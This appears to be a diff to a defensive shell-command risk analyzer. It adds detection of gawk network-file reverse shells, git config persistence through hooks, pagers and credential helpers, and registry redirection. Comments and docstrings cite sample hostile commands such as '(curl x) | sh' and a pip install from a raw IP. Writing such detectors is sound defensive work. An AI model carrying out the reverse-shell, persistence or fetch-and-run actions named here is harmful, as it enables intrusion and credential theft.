@@ -39,6 +39,7 @@ class SimpleCommand:
     stdin: str | None = None
     dynamic: set[str] = field(default_factory=set)
     fetched: set[str] = field(default_factory=set)
+    stand_in: bool = False  # a group in a pipeline (``(curl x) | sh``), judged on its own
 
 
 @dataclass(slots=True)
@@ -219,6 +220,9 @@ class Context:
                 arg = arg.split("=", 1)[1]
             elif arg.startswith("-"):
                 continue
+            if "/inet/tcp/" in arg or "/inet/udp/" in arg:  # gawk's network special files
+                self.socket_file("/dev/tcp/" + arg.split("/inet/", 1)[1].split("/", 2)[-1])
+                self.facts.tag("reverse_shell")
             self.read(arg)
         self.secret_vars(argv)
 
@@ -1176,6 +1180,13 @@ def _git(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
                 host = _remote(arg)
                 if host:
                     ctx.facts.resource(host)
+    elif sub == "config" and any(
+        a.lower().startswith(("core.hookspath", "core.fsmonitor", "core.sshcommand",
+                              "core.pager", "core.editor", "credential.helper"))
+        for a in rest
+    ) and not {"--get", "--list", "-l", "--get-all"} & set(rest):  # fmt: skip
+        ctx.facts.tag("persistence")
+        ctx.facts.propose("vcs:write", Severity.HIGH)
     elif sub == "credential" or (sub == "config" and any("credential" in a for a in rest)):
         if "fill" in rest or "--get" in rest or "get" in rest:
             ctx.facts.credential("git")
@@ -1423,6 +1434,11 @@ def _package(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
     """Package installs: ordinary from the default registries, reviewed from a raw IP,
     plain HTTP or another index (``pip install -i http://10.0.0.5/simple evil``)."""
     ops = ctx.operands(argv)
+    if ops[:2] == ["config", "set"] and len(ops) >= 4:
+        key = ops[2].lower()
+        if key.endswith(("registry", "index-url", "index", "extra-index-url", "find-links")):
+            argv = [argv[0], "install", "--registry", ops[3]]
+            ops = ["install"]
     if not set(ops[:2]) & _INSTALL_WORDS:
         ctx.generic(argv, cmd)
         return
